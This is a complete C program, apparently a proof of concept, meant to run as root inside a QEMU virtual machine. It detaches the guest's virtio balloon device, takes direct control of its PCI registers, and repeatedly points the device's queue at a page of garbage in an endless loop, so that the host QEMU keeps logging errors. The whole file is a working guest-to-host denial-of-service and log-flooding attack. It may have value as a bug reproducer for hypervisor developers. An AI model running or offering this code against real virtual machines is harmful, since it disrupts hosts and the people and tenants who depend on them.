/* Root in a guest makes its QEMU complain without end: fills a queue of the balloon (0000:00:05.0) with garbage again and again. */
#include <fcntl.h>
#include <stdint.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#define DEVICE "/sys/bus/pci/devices/0000:00:05.0/"

static volatile uint8_t *bar;
static void set8(int at, uint8_t value) { bar[at] = value; }
static void set16(int at, uint16_t value) { *(volatile uint16_t *)(bar + at) = value; }
static void set64(int at, uint64_t value) {
    *(volatile uint32_t *)(bar + at) = value;
    *(volatile uint32_t *)(bar + at + 4) = value >> 32;
}

int main(void) {
    int unbind = open(DEVICE "driver/unbind", O_WRONLY);
    if (unbind >= 0 && write(unbind, "0000:00:05.0", 12) < 0)
        return 1;
    uint16_t memory_and_master = 7;
    if (pwrite(open(DEVICE "config", O_RDWR), &memory_and_master, 2, 4) < 0)
        return 2;
    bar = mmap(0, 0x4000, PROT_READ | PROT_WRITE, MAP_SHARED, open(DEVICE "resource4", O_RDWR | O_SYNC), 0);
    uint8_t *page = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE | MAP_LOCKED, -1, 0);
    if (bar == MAP_FAILED || page == MAP_FAILED)
        return 3;
    memset(page, 0x77, 4096);
    uint64_t entry;
    if (pread(open("/proc/self/pagemap", O_RDONLY), &entry, 8, (uintptr_t)page / 4096 * 8) != 8)
        return 4;
    uint64_t address = (entry & ((1ull << 55) - 1)) * 4096;
    for (;;) {
        set8(20, 0); /* reset, then as a driver begins */
        set8(20, 3);
        set64(8, 0x100000001); /* of the features, the second half: VIRTIO_F_VERSION_1 */
        set8(20, 11);
        set16(22, 0); /* the first queue, with the page as its descriptors, and as what is available and used */
        set16(24, 8);
        set64(32, address);
        set64(40, address);
        set64(48, address);
        set16(28, 1);
        set8(20, 15);
        set16(0x3000, 0); /* look at it */
    }
}
